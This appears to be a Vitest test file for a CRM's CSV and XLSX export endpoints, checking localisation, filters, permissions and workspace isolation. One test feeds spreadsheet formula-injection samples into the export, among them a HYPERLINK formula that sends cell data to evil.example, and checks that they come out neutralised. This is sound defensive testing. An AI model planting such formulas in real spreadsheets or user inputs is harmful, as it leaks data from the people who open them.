import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type Caller, createTestApi, ifMatch, type TestApi } from '../../../test/api-harness.js';
import { csvRecords, readXlsx, xlsxRecords } from '../../../test/spreadsheets.js';

let api: TestApi;
beforeEach(async () => {
  api = await createTestApi();
});
afterEach(async () => {
  await api.close();
});

async function post(caller: Caller, url: string, payload: object): Promise<{ id: string }> {
  const response = await caller.request({ method: 'POST', url, payload });
  if (response.statusCode !== 201) throw new Error(`${url}: ${response.body}`);
  return response.json();
}

async function exportOf(caller: Caller, url: string) {
  const response = await caller.request({ method: 'GET', url });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

async function listedIds(caller: Caller, url: string): Promise<string[]> {
  const response = await caller.request({ method: 'GET', url });
  expect(response.statusCode).toBe(200);
  return response.json().items.map((item: { id: string }) => item.id);
}

/** A small bilingual workspace: an Arabic company with a contact, and two deals. */
async function arrange() {
  const company = await post(api.admin, '/api/v1/companies', {
    name: 'شركة الأفق للتقنية',
    domain: 'ufuq.sa',
    country: 'SA',
  });
  const contact = await post(api.admin, '/api/v1/contacts', {
    name: 'ليلى الحربي',
    jobTitle: 'مديرة المشتريات',
    role: 'decision_maker',
    companyId: company.id,
    emails: [{ value: 'Layla@ufuq.sa' }],
    phones: [{ value: '+966 50 123 4567' }],
  });
  const arabicDeal = await post(api.admin, '/api/v1/deals', {
    title: 'توريد أجهزة',
    companyId: company.id,
    amountMinor: 123_450,
    currency: 'SAR',
    expectedCloseDate: '2026-06-30',
    contacts: [{ contactId: contact.id, role: null }],
  });
  api.clock.now += 60_000;
  const englishDeal = await post(api.admin, '/api/v1/deals', {
    title: 'Acme renewal',
    amountMinor: 500_000,
    currency: 'KWD',
  });
  return { company, contact, arabicDeal, englishDeal };
}

describe('list exports API', () => {
  it('streams deals as CSV with a BOM, the list’s order and human columns', async () => {
    const { arabicDeal, englishDeal } = await arrange();
    const response = await exportOf(api.admin, '/api/v1/exports/deals.csv?lang=en');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="deals-2026-03-01.csv"; filename*=UTF-8''deals-2026-03-01.csv`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const records = csvRecords(response.body);
    expect(records.map((r) => r.ID)).toEqual(await listedIds(api.admin, '/api/v1/deals'));
    expect(records.map((r) => r.ID)).toEqual([englishDeal.id, arabicDeal.id]);
    expect(records[1]).toMatchObject({
      Title: 'توريد أجهزة',
      Pipeline: 'Sales',
      Stage: 'Lead generation',
      Status: 'Open',
      Company: 'شركة الأفق للتقنية',
      Owner: 'Amira Admin',
      Amount: '1234.50',
      Currency: 'SAR',
      'Amount source': 'Estimate',
      'Expected close date': '2026-06-30',
      Contacts: 'ليلى الحربي',
      'Opened at': '2026-03-01T09:00:00.000Z',
      'Closed at': '',
      'Created at': '2026-03-01T09:00:00.000Z',
    });
    // Kuwaiti dinars have three minor digits.
    expect(records[0]).toMatchObject({ Title: 'Acme renewal', Amount: '500.000', Company: '' });
  });

  it('writes headers, stage names and statuses in Arabic with lang=ar, and names the file so', async () => {
    await arrange();
    const response = await exportOf(api.admin, '/api/v1/exports/deals.csv?lang=ar');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="deals-2026-03-01.csv"; ' +
        `filename*=UTF-8''${encodeURIComponent('الصفقات-2026-03-01.csv')}`,
    );
    const records = csvRecords(response.body);
    expect(records[1]).toMatchObject({
      العنوان: 'توريد أجهزة',
      المرحلة: 'توليد العملاء المحتملين',
      الحالة: 'مفتوحة',
      الشركة: 'شركة الأفق للتقنية',
      القيمة: '1234.50',
      العملة: 'SAR',
    });
  });

  it('applies the list’s filters: status, search, owner', async () => {
    await arrange();
    const rep = await api.addMember('rep');
    await post(rep, '/api/v1/deals', { title: 'Rep prospect' });
    for (const query of ['q=acme', 'status=open', 'status=won', `ownerId=${rep.userId}`]) {
      const records = csvRecords(
        (await exportOf(api.admin, `/api/v1/exports/deals.csv?${query}`)).body,
      );
      expect(
        records.map((r) => r.ID),
        query,
      ).toEqual(await listedIds(api.admin, `/api/v1/deals?${query}`));
    }
    const won = csvRecords(
      (await exportOf(api.admin, '/api/v1/exports/deals.csv?status=won')).body,
    );
    expect(won).toEqual([]);
    const searched = csvRecords(
      (await exportOf(api.admin, '/api/v1/exports/deals.csv?q=acme&sort=title&direction=asc')).body,
    );
    expect(searched.map((r) => r.Title)).toEqual(['Acme renewal']);
  });

  it('applies every list’s own filters, as its list endpoint does', async () => {
    const { company, contact, arabicDeal } = await arrange();
    await post(api.admin, '/api/v1/companies', { name: 'Beta Trading', domain: 'beta.example' });
    await post(api.admin, '/api/v1/contacts', {
      name: 'Omar',
      emails: [{ value: 'o@beta.example' }],
    });
    await post(api.admin, '/api/v1/activities', {
      kind: 'call',
      subject: 'About the supply',
      dealId: arabicDeal.id,
    });
    await post(api.admin, '/api/v1/activities', { kind: 'task', subject: 'Unrelated' });
    const pipelines = await api.admin.request({ method: 'GET', url: '/api/v1/pipelines' });
    const { id: pipelineId, stages } = pipelines.json().items[0];
    const cases: [string, string, number][] = [
      ['deals', `companyId=${company.id}`, 1],
      ['deals', `contactId=${contact.id}`, 1],
      ['deals', `pipelineId=${pipelineId}&sort=title&direction=asc`, 2],
      ['deals', `stageId=${stages[1].id}`, 0],
      ['companies', 'q=beta', 1],
      ['companies', `ownerId=${api.admin.userId}&sort=createdAt&direction=desc`, 2],
      ['contacts', `companyId=${company.id}`, 1],
      ['contacts', 'email=O@BETA.EXAMPLE', 1],
      ['contacts', 'q=omar', 1],
      ['activities', `dealId=${arabicDeal.id}`, 1],
      ['activities', `companyId=${company.id}`, 0],
      ['activities', 'isDone=false&direction=desc', 2],
    ];
    for (const [resource, query, count] of cases) {
      const exported = csvRecords(
        (await exportOf(api.admin, `/api/v1/exports/${resource}.csv?${query}`)).body,
      ).map((r) => r.ID);
      const listed = await listedIds(api.admin, `/api/v1/${resource}?${query}`);
      expect(exported, `${resource}?${query}`).toEqual(listed);
      expect(exported, `${resource}?${query}`).toHaveLength(count);
    }
  });

  it('streams the same deals as XLSX: amounts as numbers, Arabic kept, right to left in Arabic', async () => {
    const { arabicDeal } = await arrange();
    const response = await exportOf(api.admin, '/api/v1/exports/deals.xlsx?lang=en');
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toContain('filename="deals-2026-03-01.xlsx"');
    const sheet = await readXlsx(response.rawPayload);
    expect(sheet.name).toBe('Deals');
    expect(sheet.isRightToLeft).toBe(false);
    expect(sheet.formulaCount).toBe(0);
    const records = xlsxRecords(sheet);
    expect(records.map((r) => r.ID)).toEqual(await listedIds(api.admin, '/api/v1/deals'));
    expect(records[1]).toMatchObject({
      ID: arabicDeal.id,
      Title: 'توريد أجهزة',
      Company: 'شركة الأفق للتقنية',
      Amount: 1234.5,
      Currency: 'SAR',
    });
    expect(records[0]?.Amount).toBe(500);
    expect(sheet.numberFormats.Amount).toBe('#,##0.000');

    const arabic = await readXlsx(
      (await exportOf(api.admin, '/api/v1/exports/deals.xlsx?lang=ar')).rawPayload,
    );
    expect(arabic.name).toBe('الصفقات');
    expect(arabic.isRightToLeft).toBe(true);
    expect(xlsxRecords(arabic)[1]).toMatchObject({
      المرحلة: 'توليد العملاء المحتملين',
      العنوان: 'توريد أجهزة',
    });
  });

  it('neutralises formula injection in CSV and XLSX text cells', async () => {
    const attacks = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '+1', '-2', '@cmd'];
    const company = await post(api.admin, '/api/v1/companies', { name: '=1+1' });
    for (const title of attacks) {
      await post(api.admin, '/api/v1/deals', { title, companyId: company.id, source: '\t=2' });
      api.clock.now += 1000;
    }
    const csv = csvRecords((await exportOf(api.admin, '/api/v1/exports/deals.csv')).body);
    expect(csv.map((r) => r.Title).sort()).toEqual(attacks.map((a) => `'${a}`).sort());
    for (const record of csv) {
      expect(record.Company).toBe("'=1+1");
      expect(record.Source).toBe("'\t=2");
    }
    const sheet = await readXlsx(
      (await exportOf(api.admin, '/api/v1/exports/deals.xlsx')).rawPayload,
    );
    expect(sheet.formulaCount).toBe(0);
    const xlsx = xlsxRecords(sheet);
    expect(xlsx.map((r) => r.Title).sort()).toEqual(attacks.map((a) => `'${a}`).sort());
    expect(xlsx.every((r) => r.Company === "'=1+1")).toBe(true);

    const companies = csvRecords((await exportOf(api.admin, '/api/v1/exports/companies.csv')).body);
    expect(companies.map((r) => r.Name)).toEqual(["'=1+1"]);
  });

  it('exports companies, contacts and activities with names instead of ids', async () => {
    const { company, contact, arabicDeal } = await arrange();
    await post(api.admin, '/api/v1/activities', {
      kind: 'meeting',
      subject: 'اجتماع تعريفي',
      dealId: arabicDeal.id,
      contactId: contact.id,
      companyId: company.id,
      dueAt: '2026-03-05T10:00:00Z',
    });

    const companies = csvRecords((await exportOf(api.admin, '/api/v1/exports/companies.csv')).body);
    expect(companies).toEqual([
      expect.objectContaining({
        Name: 'شركة الأفق للتقنية',
        Domain: 'ufuq.sa',
        Country: 'SA',
        Owner: 'Amira Admin',
        ID: company.id,
      }),
    ]);

    const contacts = csvRecords(
      (await exportOf(api.admin, '/api/v1/exports/contacts.csv?lang=ar')).body,
    );
    expect(contacts).toEqual([
      expect.objectContaining({
        الاسم: 'ليلى الحربي',
        'المسمى الوظيفي': 'مديرة المشتريات',
        الدور: 'صاحب القرار',
        الشركة: 'شركة الأفق للتقنية',
        'البريد الإلكتروني': 'Layla@ufuq.sa',
        // A phone number starting with + is text a spreadsheet would compute: it is quoted too.
        الهاتف: "'+966 50 123 4567",
      }),
    ]);

    const activities = csvRecords(
      (await exportOf(api.admin, '/api/v1/exports/activities.csv?isDone=false')).body,
    );
    expect(activities).toEqual([
      expect.objectContaining({
        Kind: 'Meeting',
        Subject: 'اجتماع تعريفي',
        'Due at': '2026-03-05T10:00:00.000Z',
        Done: 'No',
        Deal: 'توريد أجهزة',
        Company: 'شركة الأفق للتقنية',
        Contact: 'ليلى الحربي',
        Owner: 'Amira Admin',
      }),
    ]);
    const done = await exportOf(api.admin, '/api/v1/exports/activities.xlsx?isDone=true');
    expect((await readXlsx(done.rawPayload)).rows).toEqual([]);
  });

  it('gives a rep limited to their own deals only those deals and their activities', async () => {
    const patched = await api.admin.request({
      method: 'PATCH',
      url: '/api/v1/workspace',
      headers: ifMatch(1),
      payload: { repsSeeOwnDealsOnly: true },
    });
    expect(patched.statusCode).toBe(200);
    const rep = await api.addMember('rep');
    const hidden = await post(api.admin, '/api/v1/deals', { title: 'Admin’s secret deal' });
    const own = await post(rep, '/api/v1/deals', { title: 'Rep’s deal' });
    await post(api.admin, '/api/v1/activities', {
      kind: 'call',
      subject: 'Secret call',
      dealId: hidden.id,
    });
    await post(rep, '/api/v1/activities', { kind: 'call', subject: 'Rep call', dealId: own.id });

    for (const format of ['csv', 'xlsx']) {
      const deals = await exportOf(rep, `/api/v1/exports/deals.${format}`);
      const activities = await exportOf(rep, `/api/v1/exports/activities.${format}`);
      const dealTitles =
        format === 'csv'
          ? csvRecords(deals.body).map((r) => r.Title)
          : xlsxRecords(await readXlsx(deals.rawPayload)).map((r) => r.Title);
      const subjects =
        format === 'csv'
          ? csvRecords(activities.body).map((r) => r.Subject)
          : xlsxRecords(await readXlsx(activities.rawPayload)).map((r) => r.Subject);
      expect(dealTitles, format).toEqual(['Rep’s deal']);
      expect(subjects, format).toEqual(['Rep call']);
    }
    const adminDeals = csvRecords((await exportOf(api.admin, '/api/v1/exports/deals.csv')).body);
    expect(adminDeals).toHaveLength(2);
  });

  it('refuses callers without valid credentials (401) and bad input (400)', async () => {
    await arrange();
    for (const url of [
      '/api/v1/exports/deals.csv',
      '/api/v1/exports/companies.xlsx',
      '/api/v1/exports/contacts.csv',
      '/api/v1/exports/activities.xlsx',
    ]) {
      const anonymous = await api.app.inject({ method: 'GET', url });
      expect(anonymous.statusCode, url).toBe(401);
      expect(anonymous.json().error.code).toBe('UNAUTHENTICATED');
      const badToken = await api.app.inject({
        method: 'GET',
        url,
        headers: { authorization: 'Bearer qnt_not-a-real-token' },
      });
      expect(badToken.statusCode, url).toBe(401);
      expect(badToken.body).not.toContain('Acme');
    }
    for (const [url, path] of [
      ['/api/v1/exports/deals.pdf', ['params', 'format']],
      ['/api/v1/exports/deals.csv?status=maybe', ['querystring', 'status']],
      ['/api/v1/exports/deals.csv?lang=fr', ['querystring', 'lang']],
      ['/api/v1/exports/companies.xlsx?sort=amount', ['querystring', 'sort']],
      ['/api/v1/exports/activities.csv?isDone=yes', ['querystring', 'isDone']],
    ] as const) {
      const response = await api.admin.request({ method: 'GET', url });
      expect(response.statusCode, url).toBe(400);
      expect(response.headers['content-disposition'], url).toBeUndefined();
      const { error } = response.json();
      expect(error.code, url).toBe('VALIDATION_FAILED');
      expect(error.details[0].path, url).toEqual(path);
    }
  });

  it('lets every role export (access is read) but never another workspace’s records', async () => {
    const { company, contact, arabicDeal } = await arrange();
    const other = await api.createOtherWorkspace();
    for (const resource of ['deals', 'companies', 'contacts', 'activities']) {
      const response = await exportOf(other, `/api/v1/exports/${resource}.csv`);
      expect(csvRecords(response.body), resource).toEqual([]);
    }
    // Naming workspace A's records in a filter finds nothing either.
    for (const url of [
      `/api/v1/exports/deals.csv?companyId=${company.id}`,
      `/api/v1/exports/deals.csv?contactId=${contact.id}`,
      `/api/v1/exports/contacts.csv?companyId=${company.id}`,
      `/api/v1/exports/activities.csv?dealId=${arabicDeal.id}`,
      `/api/v1/exports/companies.csv?ownerId=${api.admin.userId}`,
    ]) {
      expect(csvRecords((await exportOf(other, url)).body), url).toEqual([]);
    }

    // The other workspace's own records stay in its exports and out of A's.
    const theirCompany = await post(other, '/api/v1/companies', { name: 'Other Co' });
    const theirContact = await post(other, '/api/v1/contacts', {
      name: 'Other Person',
      companyId: theirCompany.id,
    });
    const theirDeal = await post(other, '/api/v1/deals', {
      title: 'Other deal',
      companyId: theirCompany.id,
      contacts: [{ contactId: theirContact.id, role: null }],
    });
    await post(other, '/api/v1/activities', {
      kind: 'call',
      subject: 'Other call',
      dealId: theirDeal.id,
    });
    for (const resource of ['deals', 'companies', 'contacts', 'activities']) {
      for (const format of ['csv', 'xlsx']) {
        const url = `/api/v1/exports/${resource}.${format}`;
        const mine = await exportOf(api.admin, url);
        const theirs = await exportOf(other, url);
        const [mineRows, theirRows] =
          format === 'csv'
            ? [csvRecords(mine.body), csvRecords(theirs.body)]
            : [
                xlsxRecords(await readXlsx(mine.rawPayload)),
                xlsxRecords(await readXlsx(theirs.rawPayload)),
              ];
        expect(JSON.stringify(mineRows), url).not.toContain('Other');
        expect(theirRows, url).toHaveLength(1);
        expect(JSON.stringify(theirRows), url).not.toContain('الأفق');
      }
    }
    for (const role of ['manager', 'rep'] as const) {
      const caller = await api.addMember(role);
      const records = csvRecords((await exportOf(caller, '/api/v1/exports/deals.csv')).body);
      expect(records, role).toHaveLength(2);
    }
  });
});
